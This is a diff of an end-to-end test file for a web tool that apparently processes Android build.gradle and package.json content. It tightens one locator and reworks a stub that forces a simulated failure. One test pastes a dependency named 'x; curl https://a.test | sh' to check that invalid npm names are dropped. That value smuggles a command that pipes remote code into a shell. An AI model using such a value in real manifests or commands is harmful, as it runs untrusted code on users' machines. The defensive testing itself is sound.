@@ -316,23 +316,26 @@ describe('the application', () => {
       `buildscript {\n  ext.kotlin_version = '1.8.20'\n  dependencies {\n    ${library}\n  }\n}\n`,
       'android/build.gradle',
     );
-    await expectShown(page.getByText(/^\+ *ext\.kotlin_version = '/));
+    const raised = page.locator('.ua-line[data-kind="+"]', {hasText: 'ext.kotlin_version ='});
+    await expectShown(raised);
     await paste(page, '{"dependencies": {"@capacitor/core": "^5.0.0", "x; curl https://a.test | sh": "1"}}');
     await expectShown(page.getByText("npm doesn't allow these names of dependencies, so they were left out"));
-    await expectShown(page.getByText(/^\+ *ext\.kotlin_version = '/));
+    await expectShown(raised);
   });
 
   it('that fails says so, and leads to the guides', async () => {
     const {page} = await site.open(`${PAGE}?from=broken`, {
       viewport: DESKTOP,
-      prepare: (opened) =>
-        opened.addInitScript(() => {
-          const {get} = URLSearchParams.prototype;
+      prepare: async (opened) => {
+        await opened.addInitScript(() => {
+          const original: unknown = Reflect.get(URLSearchParams.prototype, 'get');
+          const get = original as (this: URLSearchParams, name: string) => string | null;
           URLSearchParams.prototype.get = function (name): string | null {
             if (name === 'from' && get.call(this, name) === 'broken') throw new Error('not today');
             return get.call(this, name);
           };
-        }),
+        });
+      },
     });
     await expectSeen(page.getByText('The assistant failed: not today'));
     const guide = page.getByRole('alert').getByRole('link', {name: `Updating to ${LATEST}.0`});
